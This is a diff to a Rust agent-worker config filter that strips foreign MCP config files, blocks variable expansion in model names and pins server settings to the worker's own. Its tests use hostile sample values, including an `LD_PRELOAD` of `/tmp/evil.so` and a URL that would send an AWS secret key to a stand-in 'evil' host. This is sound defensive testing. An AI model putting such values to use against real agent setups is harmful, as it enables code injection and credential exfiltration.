@@ -45,6 +45,12 @@ impl Commands {
         for config in configs {
             match config.permit(&record.config) {
                 Ok(permitted) => {
+                    // An agent of others has a label in the place of the model's name, which nobody expands.
+                    if wanted_agent(&permitted).is_none() && record.model.contains("${") {
+                        return Err(
+                            "the name of the model would be read from this worker's variables".to_owned()
+                        );
+                    }
                     record.config = permitted;
                     record.config_base.clone_from(&config.base);
                     return Ok(());
@@ -66,6 +72,9 @@ impl Commands {
 impl OwnConfig {
     fn permit(&self, job: &Table) -> Result<Table, String> {
         let mut permitted = job.clone();
+        // Files of other hosts on this machine, with commands in them. Those that this worker was given are in its
+        // `mcp_servers` already.
+        permitted.remove("mcp_config");
         let own_servers = table(&self.effective, "mcp_servers");
         let mut servers = Table::new();
         for (name, wanted) in table(job, "mcp_servers").into_iter().flatten() {
@@ -94,7 +103,16 @@ impl OwnConfig {
         if let Some(Value::Table(strategy)) = permitted.get_mut("strategy") {
             let own = table(&self.effective, "strategy");
             for (role, settings) in strategy.iter_mut().filter(|(_, settings)| settings.is_table()) {
-                take_endpoint(Some(settings), own.and_then(|own| own.get(role)));
+                let own = own.and_then(|own| own.get(role));
+                take_endpoint(Some(settings), own);
+                let name = settings.get("name");
+                if name.and_then(Value::as_str).is_some_and(|name| name.contains("${"))
+                    && name != own.and_then(|own| own.get("name"))
+                {
+                    return Err(format!(
+                        "it does not say which variable `strategy.{role}.name` is read from"
+                    ));
+                }
             }
         }
         Ok(permitted)
@@ -103,6 +121,10 @@ impl OwnConfig {
 
 fn table<'a>(config: &'a Table, key: &str) -> Option<&'a Table> {
     config.get(key).and_then(Value::as_table)
+}
+
+fn wanted_agent(config: &Table) -> Option<&str> {
+    table(config, "external")?.get("agent")?.as_str().filter(|agent| *agent != "loop")
 }
 
 fn take_endpoint(settings: Option<&mut Value>, own: Option<&Value>) {
@@ -176,6 +198,60 @@ mod tests {
         assert!(text.contains("http://own/v1") && text.contains("/opt/gaia/gaia-mcp-bash"), "{text}");
         assert_eq!(record.config["agent"]["max_steps"].as_integer(), Some(7));
         assert_eq!(record.config_base, PathBuf::from("/own"));
+    }
+
+    #[test]
+    fn a_job_brings_no_files_of_other_hosts_and_reads_no_variable_into_what_is_sent() {
+        let record = permit(toml::toml! {
+            mcp_config = ["/home/somebody/.claude.json"]
+            [model]
+            name = "m"
+        });
+        assert!(!record.unwrap().config.contains_key("mcp_config"));
+        let role = permit(toml::toml! {
+            [strategy.verifier]
+            name = "${DATABASE_URL}"
+        });
+        assert!(role.unwrap_err().contains("`strategy.verifier.name`"));
+        let config = OwnConfig { path: "own.toml".into(), base: "/own".into(), effective: own() };
+        let mut record = test_record(&[]);
+        record.config = Table::new();
+        record.model = "${DATABASE_URL}".to_owned();
+        assert!(Commands::Own(vec![config]).permit(&mut record).unwrap_err().contains("variables"));
+    }
+
+    #[test]
+    fn environment_folder_and_address_of_a_server_are_the_workers_own() {
+        let servers = |more: Table| {
+            let mut server = toml::toml! {
+                command = "/opt/gaia/gaia-mcp-bash"
+                args = ["--network", "off"]
+            };
+            server.extend(more);
+            let mut servers = Table::new();
+            servers.insert("bash".to_owned(), Value::Table(server));
+            let mut job = Table::new();
+            job.insert("mcp_servers".to_owned(), Value::Table(servers));
+            permit(job)
+        };
+        for more in [
+            toml::toml! { env = { LD_PRELOAD = "/tmp/evil.so" } },
+            toml::toml! { env_vars = ["AWS_SECRET_ACCESS_KEY"] },
+            toml::toml! { url = "http://evil/${AWS_SECRET_ACCESS_KEY}" },
+            toml::toml! { env_http_headers = { X = "AWS_SECRET_ACCESS_KEY" } },
+        ] {
+            let key = more.keys().next().cloned().unwrap();
+            assert!(servers(more).unwrap_err().contains(&format!("differs in `{key}`")), "{key}");
+        }
+        // Taken from the worker, whatever the job says.
+        let taken = servers(toml::toml! {
+            cwd = "/root"
+            env_file = "/root/.env"
+            bearer_token_env_var = "AWS_SECRET_ACCESS_KEY"
+            headers = { X = "${AWS_SECRET_ACCESS_KEY}" }
+        });
+        let text = taken.unwrap().config.to_string();
+        assert!(!text.contains("root") && !text.contains("AWS"), "{text}");
     }
 
     #[test]
